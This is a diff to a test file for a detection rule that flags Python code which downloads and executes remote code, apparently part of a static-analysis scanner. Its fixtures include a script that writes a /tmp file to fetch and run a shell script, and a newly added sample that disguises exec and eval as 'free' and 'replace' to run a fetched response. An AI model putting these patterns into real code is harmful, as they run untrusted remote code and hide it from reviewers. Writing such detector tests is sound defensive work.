@@ -3,6 +3,7 @@ import rule from './py-download-exec.js';
 
 ruleTest(rule, {
   clean: [
+    { name: 'a renamed print fed a response', file: 'p.py', code: `import requests\nshow = print\nshow(requests.get("https://api.example.org/x").text)\n` },
     { name: 'a generated config file, then a tool run on it', file: 'gen.py', code: `import subprocess\nwith open('build.cfg', 'w') as f:\n    f.write("[build]\\n")\n    f.write("url = https://example.org/pkg\\n")\nsubprocess.run(["make", "-f", "build.cfg"])\n` },
     { name: 'a script written out that downloads nothing', file: 'w.py', code: `import subprocess\nwith open('/tmp/job.py', 'w') as f:\n    f.write("import subprocess\\nsubprocess.run(['ls'])\\n")\nsubprocess.call("python3 /tmp/job.py", shell=True)\n` },
     { name: 'a helper returns downloaded JSON that is saved; nothing runs it', file: 'cache.py', code: `import json, requests\ndef fetch():\n    return requests.get('https://api.example.org/x').json()\ndef save(data):\n    with open('cache.json', 'w') as f:\n        f.write(json.dumps(data))\nsave(fetch())\n` },
@@ -103,6 +104,15 @@ ruleTest(rule, {
       file: 'color.py',
       code: `import subprocess\ndef check():\n    with open('/tmp/file.py', 'w') as f:\n        f.write("import subprocess\\nfrom urllib import request\\n")\n        f.write("request.urlretrieve('https://dl.example-host.net/s/a.sh', '/tmp/a.sh')\\n")\n        f.write("subprocess.call('bash /tmp/a.sh', shell=True)\\n")\n    subprocess.call("python3 /tmp/file.py &", shell=True)\n`,
       findings: [{ line: 7, message: /Writes a script that downloads and runs code to \/tmp\/file\.py \(from line 4\), then starts it/ }],
+    },
+    {
+      name: 'exec and eval renamed by assignment, fed a response',
+      file: 'css_parser.py',
+      code: `from requests import get as memset\nfree = exec\nreplace = eval\n_index = memset("https://x.example.net/b64", timeout=3)\nfree(replace(_index.text))\n`,
+      findings: [
+        { line: 5, message: /exec\(\) runs code downloaded from the network/ },
+        { line: 5, message: /eval\(\) runs code downloaded from the network/ },
+      ],
     },
   ],
 });
